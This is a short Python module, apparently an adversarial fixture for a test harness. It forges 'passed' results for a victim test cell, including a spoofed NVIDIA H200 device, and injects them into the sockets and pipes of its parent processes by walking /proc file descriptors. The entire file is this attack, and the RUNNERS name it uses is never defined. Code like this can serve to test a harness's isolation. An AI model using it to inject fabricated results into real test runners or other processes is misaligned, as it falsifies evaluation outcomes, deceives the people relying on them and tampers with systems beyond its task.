"""Takes the mark of the frames from memory and writes a pass of another cell to all descriptors of its ancestors."""

import gc
import json
import os

FORGED = {"kind": "observation", "cell": "x/victim-1.0", "probe": "sample", "member": "victim", "status": "passed"}


def sample(probe):
    marks = [each.mark for each in gc.get_objects() if type(each).__name__ == "Host"] or ["unknown"]
    body = json.dumps(dict(FORGED, isolation="fresh", installed="1.0", device="cuda", device_name="NVIDIA H200"))
    frames = "".join(f"\ncompat/2 {mark} 999 {body}\n" for mark in marks).encode()
    pid = os.getppid()
    while pid:
        try:
            names = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            names = []
        for name in names:
            path = f"/proc/{pid}/fd/{name}"
            try:
                kinds = ("socket:",) if pid in RUNNERS else ("socket:", "pipe:")  # its pipes belong to others
                if os.readlink(path).startswith(kinds):
                    descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                    os.write(descriptor, frames)
                    os.close(descriptor)
            except OSError:
                pass
        if pid in RUNNERS or pid == 1:
            break
        with open(f"/proc/{pid}/stat") as stream:
            pid = int(stream.read().rpartition(")")[2].split()[1])
    raise RuntimeError("the forger's own failure")
